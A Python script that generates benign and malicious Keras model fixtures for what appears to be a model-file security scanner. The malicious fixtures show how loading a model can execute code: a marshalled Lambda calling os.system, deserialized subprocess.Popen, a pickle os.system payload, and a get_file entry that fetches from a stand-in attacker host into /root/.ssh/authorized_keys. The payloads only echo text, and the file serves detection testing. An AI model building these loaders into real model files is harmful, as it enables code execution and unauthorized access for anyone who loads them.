#!/usr/bin/python3
"""Generate the Keras fixtures of aigis (testdata/keras/).

No Keras or TensorFlow is needed: the files are written with h5py and
zipfile exactly the way Keras writes them.

- Legacy .h5 (Keras 2, and Keras 3's legacy saver): the root group carries
  the string attributes model_config (JSON of the model), training_config
  (JSON of compile()), keras_version and backend; weights live in the
  model_weights group. h5py >= 3 stores str/bytes attributes as
  variable-length strings (global heap); h5py 2 stored Keras' bytes as
  fixed-length strings, reproduced here with numpy.bytes_.
- .keras (Keras 3): a zip with config.json, metadata.json and
  model.weights.h5.

benign_*: realistic configs that must scan clean. malicious_*: configs that
run code or fetch files when loaded. Nothing here is executed by the tests;
the Lambda payload is marshalled bytecode of a harmless `echo`.

Run: /usr/bin/python3 testdata/keras/gen.py  (from the repository root or
this folder; outputs go next to this script).
"""
import base64
import codecs
import io
import json
import marshal
import os
import zipfile

import h5py
import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))


def init(cls, **cfg):
    return {"class_name": cls, "config": cfg}


def dense2(name, units, activation="relu", **extra):
    cfg = {
        "name": name, "trainable": True, "dtype": "float32", "units": units,
        "activation": activation, "use_bias": True,
        "kernel_initializer": init("GlorotUniform", seed=None),
        "bias_initializer": init("Zeros"),
        "kernel_regularizer": None, "bias_regularizer": None,
        "activity_regularizer": None, "kernel_constraint": None, "bias_constraint": None,
    }
    cfg.update(extra)
    return {"class_name": "Dense", "config": cfg}


def dropout2(name, rate):
    return {"class_name": "Dropout", "config": {"name": name, "trainable": True, "dtype": "float32",
                                                "rate": rate, "noise_shape": None, "seed": None}}


def input2(name, shape):
    return {"class_name": "InputLayer", "config": {"batch_input_shape": [None] + shape, "dtype": "float32",
                                                   "sparse": False, "ragged": False, "name": name}}


def sequential2(name, layers):
    return {"class_name": "Sequential", "config": {"name": name, "layers": layers}}


def conv2(name, filters):
    return {"class_name": "Conv2D", "config": {
        "name": name, "trainable": True, "dtype": "float32", "filters": filters, "kernel_size": [3, 3],
        "strides": [1, 1], "padding": "same", "data_format": "channels_last", "dilation_rate": [1, 1],
        "groups": 1, "activation": "linear", "use_bias": False,
        "kernel_initializer": init("HeNormal", seed=None), "bias_initializer": init("Zeros"),
        "kernel_regularizer": init("L2", l2=9.999999747378752e-05), "bias_regularizer": None,
        "activity_regularizer": None, "kernel_constraint": None, "bias_constraint": None}}


def bn2(name):
    return {"class_name": "BatchNormalization", "config": {
        "name": name, "trainable": True, "dtype": "float32", "axis": [3], "momentum": 0.99,
        "epsilon": 0.001, "center": True, "scale": True,
        "beta_initializer": init("Zeros"), "gamma_initializer": init("Ones"),
        "moving_mean_initializer": init("Zeros"), "moving_variance_initializer": init("Ones"),
        "beta_regularizer": None, "gamma_regularizer": None, "beta_constraint": None, "gamma_constraint": None}}


def node(layer, inbound):
    layer = dict(layer)
    layer["name"] = layer["config"]["name"]
    layer["inbound_nodes"] = [[[i, 0, 0, {}] for i in inbound]] if inbound else []
    return layer


TRAINING_CONFIG = {
    "loss": "sparse_categorical_crossentropy",
    "metrics": [[{"class_name": "MeanMetricWrapper",
                  "config": {"name": "accuracy", "dtype": "float32", "fn": "sparse_categorical_accuracy"}}]],
    "weighted_metrics": None, "loss_weights": None,
    "optimizer_config": {"class_name": "Custom>Adam", "config": {
        "name": "Adam", "weight_decay": None, "clipnorm": None, "global_clipnorm": None, "clipvalue": None,
        "use_ema": False, "ema_momentum": 0.99, "ema_overwrite_frequency": None, "jit_compile": True,
        "is_legacy_optimizer": False, "learning_rate": 0.0010000000474974513, "beta_1": 0.9,
        "beta_2": 0.999, "epsilon": 1e-07, "amsgrad": False}},
}


def model_json(config):
    return {"class_name": config["class_name"], "config": config["config"],
            "keras_version": "2.13.1", "backend": "tensorflow"}


def write_h5(name, config, training=TRAINING_CONFIG, fixed=False, **fileargs):
    """Write a legacy Keras .h5 the way keras.saving.legacy.hdf5_format does."""
    path = os.path.join(HERE, name)
    conv = (lambda s: np.bytes_(s.encode("utf8"))) if fixed else (lambda s: s.encode("utf8"))
    with h5py.File(path, "w", **fileargs) as f:
        f.attrs["backend"] = conv("tensorflow")
        f.attrs["keras_version"] = conv("2.13.1")
        f.attrs["model_config"] = conv(json.dumps(model_json(config)))
        if training is not None:
            f.attrs["training_config"] = conv(json.dumps(training))
        w = f.create_group("model_weights")
        w.attrs["backend"] = conv("tensorflow")
        w.attrs["keras_version"] = conv("2.13.1")
        w.attrs["layer_names"] = np.array([b"dense"])
        g = w.create_group("dense").create_group("dense")
        g.create_dataset("kernel:0", data=np.arange(8, dtype="<f4").reshape(4, 2))
        g.create_dataset("bias:0", data=np.zeros(2, dtype="<f4"))
    print(name, os.path.getsize(path))


# --- payloads (never executed by aigis; the Lambda is marshalled, not run) ---

def payload():
    # Compiled, not called: marshal.dumps of a lambda's code object, as
    # keras.utils.generic_utils.func_dump does.
    fn = eval("lambda x: __import__('os').system('echo aigis-test') or x")  # noqa: S307 (compiling only)
    return codecs.encode(marshal.dumps(fn.__code__), "base64").decode("ascii")


def lambda2(name):
    return {"class_name": "Lambda", "config": {
        "name": name, "trainable": True, "dtype": "float32",
        "function": [payload(), None, None], "function_type": "lambda", "module": "__main__",
        "output_shape": None, "output_shape_type": "raw", "output_shape_module": None, "arguments": {}}}


# --- Keras 3 (.keras) ---

def k3(module, cls, cfg, **extra):
    d = {"module": module, "class_name": cls, "config": cfg, "registered_name": None}
    d.update(extra)
    return d


def dtype3():
    return k3("keras", "DTypePolicy", {"name": "float32"})


def dense3(name, units, activation="relu"):
    return k3("keras.layers", "Dense", {
        "name": name, "trainable": True, "dtype": dtype3(), "units": units, "activation": activation,
        "use_bias": True,
        "kernel_initializer": k3("keras.initializers", "GlorotUniform", {"seed": None}),
        "bias_initializer": k3("keras.initializers", "Zeros", {}),
        "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None,
        "bias_constraint": None}, build_config={"input_shape": [None, 16]})


def sequential3(layers, name="sequential"):
    layers = [k3("keras.layers", "InputLayer", {"batch_shape": [None, 16], "dtype": "float32",
                                                 "sparse": False, "name": "input_layer"})] + layers
    return k3("keras", "Sequential", {"name": name, "trainable": True, "dtype": dtype3(), "layers": layers},
              build_config={"input_shape": [None, 16]},
              compile_config={
                  "optimizer": k3("keras.optimizers", "Adam", {
                      "name": "adam", "learning_rate": 0.0010000000474974513, "weight_decay": None,
                      "clipnorm": None, "global_clipnorm": None, "clipvalue": None, "use_ema": False,
                      "ema_momentum": 0.99, "ema_overwrite_frequency": None, "loss_scale_factor": None,
                      "gradient_accumulation_steps": None, "beta_1": 0.9, "beta_2": 0.999,
                      "epsilon": 1e-07, "amsgrad": False}),
                  "loss": k3("keras.losses", "SparseCategoricalCrossentropy", {
                      "name": "sparse_categorical_crossentropy", "reduction": "sum_over_batch_size",
                      "from_logits": True, "ignore_class": None}),
                  "loss_weights": None, "metrics": ["accuracy"], "weighted_metrics": None,
                  "run_eagerly": False, "steps_per_execution": 1, "jit_compile": False})


def weights_h5():
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        v = f.create_group("layers").create_group("dense").create_group("vars")
        v.create_dataset("0", data=np.ones((16, 4), dtype="<f4"))
        v.create_dataset("1", data=np.zeros(4, dtype="<f4"))
        f.create_group("optimizer").create_group("vars")
    return buf.getvalue()


def write_keras(name, config):
    path = os.path.join(HERE, name)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2024-10-01@12:00:00"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", weights_h5())
    print(name, os.path.getsize(path))


def main():
    # Benign legacy .h5.
    mlp = sequential2("sequential", [input2("dense_input", [784]),
                                     dense2("dense", 128, batch_input_shape=[None, 784]),
                                     dropout2("dropout", 0.2), dense2("dense_1", 10, "softmax")])
    write_h5("benign_mlp.h5", mlp)
    cnn_layers = [node(input2("input_1", [32, 32, 3]), None)]
    prev = "input_1"
    for i in range(3):
        for l in (conv2("conv2d_%d" % i, 32 << i), bn2("batch_normalization_%d" % i),
                  {"class_name": "Activation", "config": {"name": "activation_%d" % i, "trainable": True,
                                                          "dtype": "float32", "activation": "relu"}},
                  {"class_name": "MaxPooling2D", "config": {"name": "max_pooling2d_%d" % i, "trainable": True,
                                                            "dtype": "float32", "pool_size": [2, 2],
                                                            "padding": "valid", "strides": [2, 2],
                                                            "data_format": "channels_last"}}):
            cnn_layers.append(node(l, [prev]))
            prev = l["config"]["name"]
    cnn_layers.append(node({"class_name": "Flatten", "config": {"name": "flatten", "trainable": True,
                                                                "dtype": "float32", "data_format": "channels_last"}},
                           [prev]))
    cnn_layers.append(node(dense2("dense", 10, "softmax"), ["flatten"]))
    cnn = {"class_name": "Functional", "config": {"name": "model", "trainable": True, "layers": cnn_layers,
                                                  "input_layers": [["input_1", 0, 0]],
                                                  "output_layers": [["dense", 0, 0]]}}
    # h5py 2 wrote Keras' bytes as fixed-length strings.
    write_h5("benign_cnn_fixed.h5", cnn, fixed=True)
    write_h5("benign_userblock.h5", mlp, training=None, userblock_size=512)
    write_h5("benign_latest.h5", mlp, libver="latest")
    # ~300 KiB of model_config: a deep MLP with many layers.
    big = [input2("dense_input", [512])]
    for i in range(520):
        big.append(dense2("dense_%d" % i, 512))
        big.append(dropout2("dropout_%d" % i, 0.1))
    write_h5("benign_big.h5", sequential2("sequential", big))

    # Dense attribute storage: more than eight attributes in the newest format.
    path = os.path.join(HERE, "dense_attrs.h5")
    with h5py.File(path, "w", libver="latest") as f:
        f.attrs["model_config"] = json.dumps(model_json(mlp)).encode()
        for i in range(10):
            f.attrs["extra_%d" % i] = b"x"
    print("dense_attrs.h5", os.path.getsize(path))

    # Malicious legacy .h5.
    write_h5("malicious_lambda.h5", sequential2("sequential", [
        input2("dense_input", [16]), dense2("dense", 16), lambda2("lambda"), dense2("dense_1", 4)]))
    popen = {"module": "subprocess", "class_name": "Popen", "registered_name": "Popen",
             "config": {"name": "pwn", "args": ["sh", "-c", "echo aigis-test"]}}
    write_h5("malicious_popen.h5", sequential2("sequential", [input2("dense_input", [16]), dense2("dense", 4), popen]))
    inner = {"class_name": "Functional", "config": {"name": "inner", "trainable": True, "layers": [
        node(input2("input_2", [16]), None), node(dense2("dense_2", 16), ["input_2"]),
        node(lambda2("hidden_lambda"), ["dense_2"])],
        "input_layers": [["input_2", 0, 0]], "output_layers": [["hidden_lambda", 0, 0]]}}
    write_h5("malicious_nested_lambda.h5", sequential2("outer", [input2("dense_input", [16]),
                                                                 {"class_name": "TimeDistributed", "config": {
                                                                     "name": "td", "trainable": True,
                                                                     "dtype": "float32", "layer": inner}},
                                                                 dense2("dense", 4)]))

    # Benign .keras.
    write_keras("benign.keras", sequential3([dense3("dense", 16), dense3("dense_1", 4, "softmax")]))
    # Malicious .keras.
    write_keras("malicious_popen.keras", sequential3([dense3("dense", 16), k3(
        "subprocess", "Popen", {"args": ["sh", "-c", "echo aigis-test"], "name": "pwn"}, registered_name="Popen")]))
    write_keras("malicious_get_file.keras", sequential3([dense3("dense", 16), k3(
        "keras.utils", "get_file", {"fname": "authorized_keys", "origin": "http://attacker.invalid/k",
                                    "cache_dir": "/root/.ssh", "cache_subdir": ""}, registered_name="get_file")]))
    lam3 = k3("keras.layers", "Lambda", {"name": "lambda", "trainable": True, "dtype": dtype3(), "function": {
        "class_name": "__lambda__", "config": {"code": payload(), "defaults": None, "closure": None}},
        "arguments": {}})
    write_keras("malicious_unsafe_deser.keras", sequential3([
        dense3("dense", 16),
        k3("keras.config", "function", "enable_unsafe_deserialization", registered_name="enable_unsafe_deserialization"),
        lam3]))
    write_keras("malicious_lambda.keras", sequential3([dense3("dense", 16), lam3]))
    write_keras("malicious_torch_wrapper.keras", sequential3([k3("keras.layers", "TorchModuleWrapper", {
        "name": "torch_module_wrapper", "trainable": True, "dtype": dtype3(),
        "module": base64.b64encode(b"\x80\x02cos\nsystem\nq\x00X\x0a\x00\x00\x00echo aigisq\x01\x85q\x02Rq\x03.").decode()})]))


if __name__ == "__main__":
    main()
